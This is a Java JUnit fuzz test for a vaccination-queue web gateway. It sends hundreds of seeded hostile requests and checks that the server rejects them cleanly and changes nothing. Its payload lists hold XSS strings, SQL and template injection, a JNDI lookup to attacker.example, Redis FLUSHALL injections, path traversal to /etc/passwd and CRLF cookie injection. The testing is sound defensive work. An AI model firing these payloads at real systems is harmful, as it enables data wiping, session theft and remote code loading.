package io.vaxflow.gateway;

import io.vaxflow.support.CityPerClass;
import io.vaxflow.support.Ids;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.vaxflow.support.TestCity;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.redis.client.Command;
import io.vertx.redis.client.Redis;
import io.vertx.redis.client.Request;
import io.vertx.redis.client.Response;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Hundreds of generated hostile requests (seeded, so a failure can be replayed) across every
 * route, anonymous and as a logged-in manager: random JSON shapes, wrong types, nulls, numbers out
 * of range, 20,000-character strings, 1 MiB bodies, unicode (RTL marks, emoji, lone surrogates
 * escaped in JSON, NUL), injection payloads (markup, SQL, templates, JNDI, Redis protocol and Lua),
 * hostile path parameters, query strings and headers.
 *
 * <p>Asserted for each: never a 5xx; every 4xx outside the SockJS transport is the API's error
 * JSON ({@code {"error": {"code": UPPER_SNAKE, "message", ...}}}, naming the field for
 * INVALID_INPUT); every page (2xx or 404) carries no injected markup unescaped; no static file from
 * outside webroot/; and nothing in Redis changed — every {@code vf:*} key (each site's keys and the
 * sessions) compared byte for byte after each request. Rate-limit buckets ({@code rl:*}) change on
 * every request by design and are not compared.
 *
 * <p>The generator builds each write to be invalid by construction (at least one field from a pool
 * of values that field can never take), except a few deliberately valid ones (a well-formed
 * booking or walk-in with junk extra fields, an anonymous logout), flagged as such: only those may
 * succeed, and Redis is re-read as the new baseline after one does.
 */
class HostileInputTest {

  private static final long SEED = 0x5EED_2026_1124L;
  private static final int REQUESTS = 640;
  private static final List<String> SITES = List.of("xuhui", "jingan", "pudong");
  private static final List<String> STATIONS = List.of("door-1", "desk-1", "desk-2", "booth-1", "booth-2", "booth-3");
  private static final Pattern ERROR_CODE = Pattern.compile("[A-Z][A-Z0-9_]*");

  /** Hostile strings: each has a character no name, id number, phone, slug, ticket, date or PIN may hold, or is blank or too long. */
  static final List<String> HOSTILE = List.of(
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "'><svg/onload=alert(document.cookie)>",
      "javascript:alert(1)//",
      "'; DROP TABLE tickets; --",
      "\" OR \"1\"=\"1",
      "{{7*7}}",
      "{{#each this}}{{this}}{{/each}}",
      "${jndi:ldap://attacker.example/a}",
      "#{7*7}",
      "\r\nFLUSHALL\r\n",
      "*1\r\n$8\r\nFLUSHALL\r\n",
      "]] redis.call('FLUSHALL') --[[",
      "'); redis.call('FLUSHALL'); --",
      "vf:{pudong}:*",
      "../../../../etc/passwd",
      "..%2F..%2Fconfig%2Fvaxflow.yaml",
      "A\u0000B",
      "\u0000",
      "evil\u202Etxt.exe",
      "\u200F\u200E\u202A\u202B",
      "\uD83D\uDC89\uD83D\uDE37\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
      "Zo\u00eb \uD83D\uDC89",
      "\uFEFF",
      "%s%s%s%n%x",
      "<!--",
      "]]>",
      "W001\r\nSet-Cookie: vf_session=x",
      "",
      "   ",
      "\t",
      "\u03a9\u2248\u00e7\u221a\u222b\u02dc\u00b5\u2264\u2265\u00f7",
      "A".repeat(20_000),
      "<".repeat(5_000),
      "\u5f20".repeat(70));

  /** Markup payloads that must never reach a page as they are. */
  static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
      "'><svg/onload=alert(document.cookie)>", "<img src=x onerror", "<svg/onload", "<script>alert");

  private static TestCity city;
  private static String manager;
  private static String managerCsrf;
  private static Redis redis;

  /** A generated request; {@code mayBeValid} marks the few built to be valid. */
  record Req(int index, String what, HttpMethod method, String uri, Map<String, String> headers, Buffer body,
             boolean mayBeValid, boolean page) {
    boolean write() {
      return method != HttpMethod.GET && method != HttpMethod.HEAD && method != HttpMethod.OPTIONS;
    }

    @Override
    public String toString() {
      String u = uri.length() > 160 ? uri.substring(0, 160) + "…(" + uri.length() + ")" : uri;
      String b = body == null ? "" : body.length() > 200 ? body.getString(0, 200) + "…(" + body.length() + " bytes)" : body.toString();
      return "#" + index + " [" + what + "] " + method + " " + u + " " + headers.keySet() + " " + b.replace("\r", "\\r").replace("\n", "\\n");
    }
  }

  record Res(int status, String contentType, String body) {}

    // Prometheus on, as Main runs it, so /metrics is one of the routes under attack
    // one saying per call: repeat sayings are background writes (a 'say' event, the says zset)
    // that would land between a request and the dump that checks it changed nothing
  @RegisterExtension
  static final CityPerClass CITY = CityPerClass.of(() -> TestCity.startWithConfig(Path.of("config/vaxflow.yaml"), Map.of("VAXFLOW_ANNOUNCE_REPEATS", "1")));

  @BeforeAll
  static void start() {
    manager = city.login("manager", "2468");
    managerCsrf = io.vaxflow.support.StaffCookies.csrf(manager).orElse(null);
    // something to protect: tickets at pudong, a booking at each site
    for (int i = 1; i <= 3; i++) city.walkIn("pudong", "Gao Yang", Ids.resident(14, i));
    for (String site : SITES) city.book(site, "Wang Fang", Ids.resident(15, SITES.indexOf(site)), null);
    redis = Redis.createClient(city.vertx, city.redis.url());
  }

  @AfterAll
  static void stop() {
    if (redis != null) redis.close();
  }

  @Test
  void hostileRequestsGetFourHundredsChangeNothingAndEscapeEverything() {
    Random random = new Random(SEED);
    Map<String, String> baseline = dump();
    Map<String, Integer> byKind = new TreeMap<>();
    Map<Integer, Integer> byStatus = new TreeMap<>();
    List<String> accepted = new ArrayList<>();
    int asManager = 0;
    int pages = 0;
    for (int i = 0; i < REQUESTS; i++) {
      Req req = generate(i, random);
      byKind.merge(req.what(), 1, Integer::sum);
      if (req.headers().containsKey("Cookie") && req.headers().get("Cookie").equals(manager)) asManager++;
      Res res = send(req);
      byStatus.merge(res.status(), 1, Integer::sum);

      assertTrue(res.status() < 500, req + "\n→ " + res.status() + " " + abbreviate(res.body()));
      boolean html = res.contentType() != null && res.contentType().startsWith("text/html");
      if (html) {
        pages++;
        assertEscaped(req, res);
      } else if (res.status() >= 400 && !req.uri().startsWith("/eventbus/")) {
        assertErrorJson(req, res);
      }
      if (!req.uri().startsWith("/api/") && res.status() == 200 && !html) assertNoLeak(req, res);

      Map<String, String> now = dump();
      if (!now.equals(baseline)) {
        // in demo mode a site's page opened on the server's own computer (this client) enrols it as that page's device
        boolean demoEnrolment = html && res.status() == 200 && withoutDevices(now).equals(withoutDevices(baseline));
        boolean ok = demoEnrolment || (req.write() && res.status() >= 200 && res.status() < 300 && req.mayBeValid());
        if (!ok) fail("Redis changed by " + req + "\n→ " + res.status() + " " + abbreviate(res.body()) + TestCity.dumpDiff(baseline, now));
        baseline = now;
      }
      if (req.write() && res.status() >= 200 && res.status() < 300) {
        assertTrue(req.mayBeValid(), "a hostile write was accepted: " + req + "\n→ " + res.status() + " " + abbreviate(res.body()));
        accepted.add(req.what() + " " + res.status());
      }
    }
    System.out.printf("HostileInputTest: %d requests (seed %d), %d as manager, %d pages; by kind %s; by status %s; "
        + "valid ones accepted: %s%n", REQUESTS, SEED, asManager, pages, byKind, byStatus, accepted);
    assertTrue(REQUESTS >= 500);
    assertTrue(asManager >= 100, "as a manager: " + asManager);
    assertTrue(pages >= 60, "pages: " + pages);
  }

  // ---- checks ----

  private static void assertErrorJson(Req req, Res res) {
    String what = req + "\n→ " + res.status() + " " + res.contentType() + " " + abbreviate(res.body());
    assertTrue(res.contentType() != null && res.contentType().startsWith("application/json"), "not JSON: " + what);
    JsonObject error;
    try {
      error = new JsonObject(res.body()).getJsonObject("error");
    } catch (RuntimeException e) {
      throw new AssertionError("not error JSON: " + what, e);
    }
    assertTrue(error != null, "no error object: " + what);
    String code = error.getString("code");
    assertTrue(code != null && ERROR_CODE.matcher(code).matches(), "error code: " + what);
    assertTrue(!error.getString("message", "").isBlank(), "error message: " + what);
    if (code.equals("INVALID_INPUT")) {
      // the field as the client named it (an unknown key may be any string, even a blank one)
      assertTrue(error.getValue("field") instanceof String, "INVALID_INPUT names the field: " + what);
    }
  }

  /** No markup we sent is in the page as it is; no event handler attribute anywhere. */
  private static void assertEscaped(Req req, Res res) {
    String page = res.body();
    for (String m : MARKUP) {
      assertTrue(!page.contains(m), "unescaped " + m + " in the page of " + req);
    }
    String lower = page.toLowerCase(Locale.ROOT);
    assertTrue(!Pattern.compile("<[^>]*\\son[a-z]+\\s*=").matcher(lower).find(), "an event handler attribute in the page of " + req);
    assertTrue(!lower.contains("javascript:alert"), "a javascript: URL in the page of " + req);
  }

  /**
   * Nothing from outside webroot/ is served: no line of the config file (a PIN's hash, the secret's
   * YAML line: /health may name the setting, as it names an insecure default), a script, git's
   * config, /etc/passwd or the pom.
   */
  private static void assertNoLeak(Req req, Res res) {
    for (String secret : List.of("pbkdf2-sha256$", "voucherSecret: ", "redis.call", "[core]", "root:x:0:0", "<artifactId>")) {
      assertTrue(!res.body().contains(secret), "served a file from outside webroot/ (" + secret + "): " + req);
    }
  }

  // ---- the generator ----

  private static Req generate(int i, Random r) {
    int pick = r.nextInt(100);
    if (pick < 14) return page(i, r);
    if (pick < 18) return staticFile(i, r);
    if (pick < 20) return eventBus(i, r);
    if (pick < 24) return wrongMethod(i, r);
    if (pick < 36) return booking(i, r);
    if (pick < 48) return checkIn(i, r);
    if (pick < 54) return login(i, r);
    if (pick < 57) return anonymous(i, "logout", HttpMethod.POST, "/api/v1/auth/logout" + query(r), hostileHeaders(r), body(r), true);
    if (pick < 66) return publicRead(i, r);
    return staff(i, r);
  }

  private static Req page(int i, Random r) {
    String path = switch (r.nextInt(6)) {
      case 0 -> one(r, List.of("/", "/book", "/city"));
      default -> "/sites/" + (r.nextInt(3) == 0 ? badSegment(r) : one(r, SITES)) + "/"
          + one(r, List.of("kiosk", "hall", "staff", "dashboard"));
    };
    String q = "?lang=" + enc(r.nextInt(4) == 0 ? one(r, List.of("zh", "en")) : hostile(r)) + "&" + enc(hostile(r)) + "=" + enc(hostile(r));
    Map<String, String> h = new LinkedHashMap<>();
    h.put("Accept-Language", headerSafe(hostile(r)) + ",zh;q=0.9");
    if (r.nextBoolean()) h.put("Cookie", r.nextBoolean() ? manager : "vf_session=" + headerSafe(hostile(r)));
    return new Req(i, "page", HttpMethod.GET, path + q, h, null, false, true);
  }

  private static Req staticFile(int i, Random r) {
    String path = one(r, List.of(
        "/..%2F..%2Fconfig%2Fvaxflow.yaml", "/%2e%2e/%2e%2e/pom.xml", "/css/..%2F..%2F..%2Fconfig%2Fvaxflow.yaml",
        "/vendor/%2e%2e/%2e%2e/src/main/resources/lua/lib.lua", "/js/%00.js", "/favicon.svg%00.html",
        "/.git/config", "/WEB-INF/web.xml", "/..%5C..%5Cconfig%5Cvaxflow.yaml", "/%252e%252e/%252e%252e/pom.xml",
        "/css/vaxflow.css?" + enc(hostile(r)), "/" + enc(hostile(r)), "/vendor/" + badSegment(r),
        "/%C0%AE%C0%AE/%C0%AE%C0%AE/etc/passwd", "/....//....//etc/passwd"));
    return new Req(i, "static", HttpMethod.GET, path, hostileHeaders(r), null, false, false);
  }

  private static Req eventBus(int i, Random r) {
    return switch (r.nextInt(3)) {
      case 0 -> new Req(i, "eventbus", HttpMethod.GET, "/eventbus/info" + query(r), hostileHeaders(r), null, false, false);
      case 1 -> new Req(i, "eventbus", HttpMethod.POST, "/eventbus/" + badSegment(r) + "/" + badSegment(r) + "/xhr_send",
          hostileHeaders(r), body(r), false, false);
      default -> new Req(i, "eventbus", HttpMethod.GET, "/eventbus/websocket" + query(r), hostileHeaders(r), null, false, false);
    };
  }

  private static Req wrongMethod(int i, Random r) {
    String site = one(r, SITES);
    String path = one(r, List.of("/api/v1/bookings", "/api/v1/sites/" + site + "/checkins", "/api/v1/sites/" + site + "/state",
        "/api/v1/sites/" + site + "/settings", "/api/v1/auth/login", "/api/v1/sites/" + site + "/stations/desk-1/next",
        "/api/v1/sites/" + site + "/door/scan", "/health", "/metrics"));
    HttpMethod m = one(r, List.of(HttpMethod.DELETE, HttpMethod.PATCH, HttpMethod.PUT, HttpMethod.OPTIONS, HttpMethod.TRACE));
    if (m == HttpMethod.PUT && path.endsWith("/settings")) m = HttpMethod.DELETE;
    boolean asManager = r.nextBoolean();
    return new Req(i, "wrong method", m, path, asManager ? managerHeaders() : hostileHeaders(r), body(r), false, false);
  }

  private static Req booking(int i, Random r) {
    JsonObject b = new JsonObject().put("name", "Li Wei").put("idNumber", Ids.resident(16, r.nextInt(10_000_000)))
        .put("phone", "13800138000").put("dose", 1 + r.nextInt(4)).put("day", TestCity.TODAY).put("siteId", one(r, SITES));
    junkFields(b, r);
    if (r.nextInt(100) < 4) {
      // a valid booking with junk beside it: may succeed
      return anonymous(i, "booking (valid)", HttpMethod.POST, "/api/v1/bookings", Map.of(), b.toBuffer(), true);
    }
    int k = 1 + r.nextInt(3);
    List<String> fields = new ArrayList<>(List.of("name", "idNumber", "phone", "dose", "day", "priority", "latlon", "siteId", "community"));
    java.util.Collections.shuffle(fields, r);
    for (String f : fields.subList(0, k)) {
      switch (f) {
        case "name" -> b.put("name", badName(r));
        case "idNumber" -> b.put("idNumber", badIdNumber(r));
        case "phone" -> b.put("phone", badPhone(r));
        case "dose" -> b.put("dose", badDose(r));
        case "day" -> b.put("day", orNull(r, () -> one(r, List.of("2026-02-30", "2026-11-24T10:00:00Z", "1999-01-01", "2026-11-23",
            "2026-12-31", "24/11/2026", hostile(r))), List.of(20261124, true, new JsonArray())));
        case "priority" -> b.put("priority", r.nextBoolean() ? hostile(r) : one(r, List.of("vip", "elderly2", 1, true, new JsonArray())));
        case "latlon" -> {
          b.put("lat", one(r, List.of(90.0001, -91, 1e308, "31.2", true, new JsonArray(), new JsonObject())));
          if (r.nextBoolean()) b.put("lon", one(r, List.of(180.5, -181, -1e308, "121", false, new JsonObject())));
        }
        case "siteId" -> b.put("siteId", r.nextBoolean() ? hostile(r) : one(r, List.of("nowhere", "PUDONG", "pu dong", 7, true, new JsonArray())));
        default -> {
          b.remove("siteId");
          b.put("community", r.nextBoolean() ? hostile(r) : one(r, List.of(7, true, new JsonArray(), "Nowhere")));
        }
      }
    }
    return maybeRaw(i, "booking", "/api/v1/bookings", b, r);
  }

  private static Req checkIn(int i, Random r) {
    String site = r.nextInt(4) == 0 ? one(r, SITES) : "pudong";
    String path = "/api/v1/sites/" + (r.nextInt(10) == 0 ? badSegment(r) : site) + "/checkins" + (r.nextBoolean() ? query(r) : "");
    Map<String, String> headers = new LinkedHashMap<>();
    JsonObject walkIn = new JsonObject().put("name", "Chen Jie").put("idNumber", Ids.resident(17, r.nextInt(10_000_000)))
        .put("dose", 1 + r.nextInt(4));
    if (site.equals("pudong") && path.startsWith("/api/v1/sites/pudong/") && r.nextInt(100) < 5) {
      JsonObject b = new JsonObject().put("walkIn", walkIn);
      junkFields(b, r);
      return anonymous(i, "walk-in (valid)", HttpMethod.POST, path, headers, b.toBuffer(), true);
    }
    JsonObject b = new JsonObject();
    switch (r.nextInt(5)) {
      case 0, 1 -> b.put("voucher", orNull(r, () -> r.nextBoolean() ? hostile(r)
          : one(r, List.of("PD-0000-0000", "XH7K3M9Q2P.20261124.0930.A.5F2KQ8ZJ1C", "pd0000000", "A".repeat(129))),
          List.of(42, true, new JsonArray().add("PD-0000-0000"), new JsonObject())));
      case 2 -> {
        // a walk-in with at least one bad field (or at a site that takes none)
        switch (r.nextInt(3)) {
          case 0 -> walkIn.put("name", badName(r));
          case 1 -> walkIn.put("idNumber", badIdNumber(r));
          default -> walkIn.put("dose", badDose(r));
        }
        b.put("walkIn", walkIn);
      }
      case 3 -> b.put("walkIn", one(r, List.of("yes", 1, true, new JsonArray().add(walkIn), hostile(r))));
      default -> {
        if (r.nextBoolean()) {
          b.put("walkIn", walkIn).put("voucher", "PD-0000-0000");
        } else {
          b.put("walkIn", walkIn); // valid, but with a bad Idempotency-Key
          headers.put("Idempotency-Key", headerSafe(one(r, List.of("short", "A".repeat(65), "key with spaces", "<script>", "k\u00e9y-12345", "../../etc"))));
        }
      }
    }
    junkFields(b, r);
    Req raw = maybeRaw(i, "check-in", path, b, r);
    Map<String, String> h = new LinkedHashMap<>(raw.headers());
    h.putAll(headers);
    return new Req(i, raw.what(), raw.method(), raw.uri(), h, raw.body(), false, false);
  }

  private static Req login(int i, Random r) {
    JsonObject b = new JsonObject()
        .put("staffId", r.nextInt(3) == 0 ? one(r, List.of("manager", "door")) : orNull(r, () -> hostile(r), List.of(7, new JsonArray())))
        .put("pin", r.nextInt(3) == 0 ? one(r, List.of("0000", "9999", "1234")) : orNull(r, () -> hostile(r), List.of(2468, 1357)));
    if (b.getValue("staffId") instanceof String s && (s.equals("manager") || s.equals("door"))
        && !(b.getValue("pin") instanceof String)) {
      b.put("pin", "0000"); // a number is refused as a type anyway; keep the pair certainly wrong
    }
    junkFields(b, r);
    return maybeRaw(i, "login", "/api/v1/auth/login", b, r);
  }

  private static Req publicRead(int i, Random r) {
    String site = r.nextInt(3) == 0 ? badSegment(r) : one(r, SITES);
    String path = switch (r.nextInt(8)) {
      case 0 -> r.nextBoolean() ? "/api/v1/sites" : "/api/v1/city";
      case 1 -> "/api/v1/sites/" + site + "/state";
      case 2 -> "/api/v1/sites/" + site + "/calls?after=" + enc(one(r, List.of("0-0", "99999999999999999999-0", "1-1-1", "-1", hostile(r))));
      case 3 -> "/api/v1/sites/" + site + "/tickets/" + one(r, List.of("W001", "w001", "W999", "X001", "W1", "W0000001", badSegment(r)));
      case 4 -> "/api/v1/auth/me";
      case 5 -> "/health";
      case 6 -> "/metrics";
      default -> "/ping";
    };
    return anonymous(i, "public read", HttpMethod.GET, path + (path.contains("?") ? "&" : "") + (path.contains("?") ? query(r).substring(1) : query(r)),
        hostileHeaders(r), r.nextInt(5) == 0 ? body(r) : null, false);
  }

  /** Staff routes as the manager, each with at least one part that can never be valid. */
  private static Req staff(int i, Random r) {
    String site = one(r, SITES);
    String base = "/api/v1/sites/" + site;
    String station = one(r, STATIONS);
    HttpMethod post = HttpMethod.POST;
    return switch (r.nextInt(10)) {
      case 0 -> asManager(i, "stations", HttpMethod.GET, "/api/v1/sites/" + badSegment(r) + "/stations" + query(r), null);
      case 1 -> asManager(i, "station", HttpMethod.GET, base + "/stations/" + badStation(r) + query(r), null);
      case 2 -> asManager(i, "next", post, base + "/stations/" + badStation(r) + "/next", body(r));
      case 3 -> asManager(i, "heartbeat", post, "/api/v1/sites/" + badSegment(r) + "/stations/" + station + "/heartbeat", body(r));
      case 4 -> asManager(i, "action", post, base + "/stations/" + station + "/" + badAction(r), body(r));
      case 5 -> {
        JsonObject b = new JsonObject().put("to", orNull(r, () -> r.nextBoolean() ? hostile(r)
            : one(r, List.of("desk-99", "booth-0", "ROOM", "door-2", "Vaccination")), List.of(1, true, new JsonArray())));
        yield asManager(i, "transfer", post, base + "/stations/" + station + "/transfer", raw(b, r));
      }
      case 6 -> {
        JsonObject b = new JsonObject().put("number", orNull(r, () -> r.nextBoolean() ? hostile(r)
            : one(r, List.of("W999", "A00001", "w001", "W 001", "P0")), List.of(1, true, new JsonObject())));
        yield asManager(i, "door scan", post, base + "/door/scan", raw(b, r));
      }
      case 7 -> {
        JsonObject b = new JsonObject();
        switch (r.nextInt(4)) {
          case 0 -> b.put("hallCapacity", one(r, List.of(0, -1, 100_001, 1.5, "10", true, new JsonArray(), 1e308)));
          case 1 -> b.put("roomCapacity", one(r, List.of(0, -5, 10_001, 2.5, "3", false, new JsonObject())));
          case 2 -> b.put(hostile(r).isEmpty() ? "x" : hostile(r), 10);
          default -> { } // nothing to change
        }
        if (r.nextBoolean()) b.put("hallCapacity", one(r, List.of(0, "many", new JsonArray())));
        yield asManager(i, "settings", HttpMethod.PUT, base + "/settings", raw(b, r));
      }
      case 8 -> asManager(i, "reinstate", post, base + "/tickets/" + one(r, List.of("W999", "X001", "W1", badSegment(r))) + "/reinstate", body(r));
      default -> asManager(i, "events.csv", HttpMethod.GET, base + (r.nextBoolean() ? "/metrics" + query(r)
          : "/events.csv?day=" + enc(one(r, List.of("2026-02-30", "+999999999-01-01", "yesterday", hostile(r))))), null);
    };
  }

  // ---- pieces ----

  private static Req asManager(int i, String what, HttpMethod m, String uri, Buffer body) {
    return new Req(i, what, m, uri, managerHeaders(), body, false, false);
  }

  private static Map<String, String> managerHeaders() {
    Map<String, String> h = new LinkedHashMap<>();
    h.put("Cookie", manager);
    h.put("X-CSRF-Token", managerCsrf);
    h.put("Content-Type", "application/json");
    return h;
  }

  private static Req anonymous(int i, String what, HttpMethod m, String uri, Map<String, String> headers, Buffer body, boolean mayBeValid) {
    Map<String, String> h = new LinkedHashMap<>(headers);
    if (body != null) h.putIfAbsent("Content-Type", "application/json");
    return new Req(i, what, m, uri, h, body, mayBeValid, false);
  }

  /** The object as JSON, or now and then in a hostile raw form (escaped lone surrogates, NUL, duplicate keys, junk). */
  private static Req maybeRaw(int i, String what, String path, JsonObject b, Random r) {
    Map<String, String> h = r.nextInt(8) == 0 ? hostileHeaders(r) : new LinkedHashMap<>();
    return anonymous(i, what, HttpMethod.POST, path, h, raw(b, r), false);
  }

  private static Buffer raw(JsonObject b, Random r) {
    String json = b.encode();
    return switch (r.nextInt(14)) {
      case 0 -> Buffer.buffer(json.substring(0, Math.max(1, json.length() / 2)));               // truncated
      case 1 -> Buffer.buffer("{\"name\":\"\\udc00x\\ud800\",\"voucher\":\"\\ud800\"," + json.substring(1)); // lone surrogates, escaped
      case 2 -> Buffer.buffer("{\"idNumber\":\"a\\u0000b\",\"name\":\"\\u202e\\u0000\"," + json.substring(1)); // NUL and RTL, escaped
      case 3 -> Buffer.buffer(json.substring(0, json.length() - 1) + ",\"dose\":1,\"dose\":\"x\",\"number\":1}"); // duplicate keys, last one bad
      case 4 -> body(r);
      default -> Buffer.buffer(json);
    };
  }

  /** A hostile body of any shape. */
  private static Buffer body(Random r) {
    return switch (r.nextInt(12)) {
      case 0 -> Buffer.buffer(new byte[1 << 20]).setString(0, "{\"name\":\"");                    // 1 MiB
      case 1 -> Buffer.buffer("{\"x\":\"" + "A".repeat(16_400) + "\"}");                          // just over 16 KiB
      case 2 -> Buffer.buffer("[".repeat(5_000) + "]".repeat(5_000));                              // deep nesting
      case 3 -> Buffer.buffer("{\"a\":1e99999,\"b\":-0,\"c\":0x10,\"d\":NaN}");
      case 4 -> Buffer.buffer("{/* comment */\"a\":1}");
      case 5 -> Buffer.buffer(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 0x7b, (byte) 0xc3, 0x28});   // invalid UTF-8
      case 6 -> Buffer.buffer("");
      case 7 -> Buffer.buffer(json(r, 0).toString());
      case 8 -> Buffer.buffer("\"" + HOSTILE.get(0) + "\"");
      default -> Buffer.buffer(String.valueOf(json(r, 0)));
    };
  }

  /** A random JSON value: nested arrays and objects of wrong types, hostile strings, numbers out of range. */
  private static Object json(Random r, int depth) {
    int k = r.nextInt(depth > 3 ? 5 : 7);
    return switch (k) {
      case 0 -> hostile(r);
      case 1 -> one(r, List.of(0, -1, Long.MAX_VALUE, Long.MIN_VALUE, 1e308, -1e-308, 3.14159));
      case 2 -> r.nextBoolean();
      case 3 -> "null";
      case 4 -> "";
      case 5 -> {
        JsonArray a = new JsonArray();
        for (int n = r.nextInt(4); n > 0; n--) a.add(json(r, depth + 1));
        a.addNull();
        yield a;
      }
      default -> {
        JsonObject o = new JsonObject();
        for (int n = r.nextInt(4); n > 0; n--) o.put(junkKey(r), json(r, depth + 1));
        o.putNull("__proto__");
        yield o;
      }
    };
  }

  private static void junkFields(JsonObject b, Random r) {
    for (int n = r.nextInt(3); n > 0; n--) b.put(junkKey(r), json(r, 2));
  }

  private static String junkKey(Random r) {
    return one(r, List.of("__proto__", "constructor", "$where", "walkin", "Voucher", "x\u0000y", "\uD83D\uDC89", "role", "admin",
        "staff", "sites", "a".repeat(300)));
  }

  private static Map<String, String> hostileHeaders(Random r) {
    Map<String, String> h = new LinkedHashMap<>();
    switch (r.nextInt(8)) {
      case 0 -> h.put("Origin", "http://evil.example");
      case 1 -> h.put("Cookie", "vf_session=" + headerSafe(hostile(r)) + "; vf_csrf=x");
      case 2 -> h.put("Content-Type", one(r, List.of("text/plain", "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=----x", "application/json; charset=utf-16", "application/xml")));
      case 3 -> h.put("X-Forwarded-For", "10.0.0." + r.nextInt(255));
      case 4 -> h.put("Accept-Language", headerSafe(hostile(r)));
      case 5 -> h.put("X-Huge", "x".repeat(20_000));
      case 6 -> {
        h.put("Cookie", manager);
        h.put("X-CSRF-Token", headerSafe(hostile(r)) + "x"); // the manager, with a wrong CSRF token
      }
      default -> { }
    }
    return h;
  }

  private static String query(Random r) {
    StringBuilder q = new StringBuilder("?");
    int n = r.nextInt(4);
    for (int k = 0; k < n; k++) {
      if (k > 0) q.append('&');
      q.append(enc(one(r, List.of("lang", "after", "day", "x", "__proto__", "callback", hostile(r))))).append('=').append(enc(hostile(r)));
    }
    if (r.nextInt(40) == 0) q.append("&long=").append("a".repeat(20_000)); // a URL far beyond the line limit
    if (r.nextInt(20) == 0) q.append("&bad=%").append(one(r, List.of("", "G0", "E0%A4%A", "FF")));
    return q.toString();
  }

  private static String badSegment(Random r) {
    if (r.nextBoolean()) {
      String e = enc(hostile(r));
      return e.isEmpty() ? "%20" : e.substring(0, Math.min(e.length(), 3000));
    }
    return one(r, List.of("nowhere", "PUDONG", "%2e%2e", "..%2F..%2Fetc", "%00", "%FF", "pudong%20", "%20pudong", "pu%0Adong",
            "%E2%80%AE", "%F0%9F%92%89", "A".repeat(300), "pudong%2Fstate", "%25", "%"));
  }

  private static String badStation(Random r) {
    return r.nextBoolean() ? badSegment(r)
        : one(r, List.of("desk-0", "desk-99", "door-2", "DESK-1", "desk-01", "desk", "booth-1%2F..", "booth--1", "desk-1%00"));
  }

  private static String badAction(Random r) {
    return r.nextBoolean() ? badSegment(r)
        : one(r, List.of("NEXT", "no_show", "delete", "%2e%2e", "start%00", "start%20", "done;", "resume%0A"));
  }

  private static Object badName(Random r) {
    return orNull(r, () -> r.nextInt(5) == 0 ? "A".repeat(65) : hostile(r), List.of(42, true, new JsonArray(), new JsonObject()));
  }

  private static Object badIdNumber(Random r) {
    return orNull(r, () -> r.nextBoolean() ? hostile(r) : one(r, List.of("12345", "A".repeat(25), "\u7530\u4e2d\u3055\u3093")),
        List.of(310101199001010011L, false, new JsonArray()));
  }

  private static Object badPhone(Random r) {
    return orNull(r, () -> r.nextBoolean() ? hostile(r) : one(r, List.of("abc", "1234", "+")), List.of(13800138000L, true));
  }

  private static Object badDose(Random r) {
    return one(r, java.util.Arrays.asList(0, 5, -1, 1.5, 2.0, 1e308, Long.MAX_VALUE, "1", true, new JsonArray().add(1),
        new JsonObject(), null));
  }

  /** A hostile string, a wrong-typed value, or null (all invalid where a field is required). */
  private static Object orNull(Random r, Supplier<Object> string, List<Object> wrongTypes) {
    int k = r.nextInt(10);
    if (k < 6) return string.get();
    if (k < 9) return one(r, wrongTypes);
    return null;
  }

  private static String hostile(Random r) {
    return one(r, HOSTILE);
  }

  private static <T> T one(Random r, List<T> from) {
    return from.get(r.nextInt(from.size()));
  }

  /** Percent-encoded, every byte but the unreserved ones (a lone surrogate becomes "?"). */
  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20").replace("*", "%2A");
  }

  /** What a header may carry: printable ASCII (others become '?'). */
  private static String headerSafe(String s) {
    StringBuilder b = new StringBuilder();
    for (char c : s.toCharArray()) b.append(c >= 0x20 && c < 0x7f ? c : '?');
    String t = b.toString().strip();
    return t.length() > 2000 ? t.substring(0, 2000) : t;
  }

  // ---- I/O ----

  /**
   * One request on its own connection ({@code Connection: close}), over a plain socket: exactly the
   * bytes generated reach the server, and an answer that never comes is a failure (15 s), not a
   * stuck build. (Vert.x's pooled client now and then lost an answer the server had sent early —
   * a 413 before the rest of a body, a 414 — and waited forever; the server itself answered each
   * of those requests, checked over sockets, so the client is not used here.) A request whose line
   * or headers are beyond the server's limits (4096, 8192 bytes) goes without its body: the codec
   * refuses it before any body is read, and closes.
   */
  private static Res send(Req req) {
    boolean oversized = req.uri().length() > 4000 || req.headers().values().stream().anyMatch(v -> v.length() > 4000);
    byte[] body = req.body() == null || oversized ? new byte[0] : req.body().getBytes();
    StringBuilder head = new StringBuilder(req.method().name()).append(' ').append(req.uri()).append(" HTTP/1.1\r\n")
        .append("Host: 127.0.0.1:").append(city.port()).append("\r\n");
    req.headers().forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
    if (req.body() != null || req.write()) head.append("Content-Length: ").append(body.length).append("\r\n");
    head.append("Connection: close\r\n\r\n");
    try (java.net.Socket socket = new java.net.Socket("127.0.0.1", city.port())) {
      socket.setSoTimeout(15_000);
      var out = socket.getOutputStream();
      out.write(head.toString().getBytes(StandardCharsets.UTF_8));
      out.write(body);
      out.flush();
      byte[] raw = socket.getInputStream().readAllBytes();
      return parse(req, raw);
    } catch (java.io.IOException e) {
      throw new AssertionError("no answer to " + req + ": " + e, e);
    }
  }

  /** Status, Content-Type and body (de-chunked) of a raw HTTP/1.1 answer. */
  private static Res parse(Req req, byte[] raw) {
    String text = new String(raw, StandardCharsets.ISO_8859_1);
    int split = text.indexOf("\r\n\r\n");
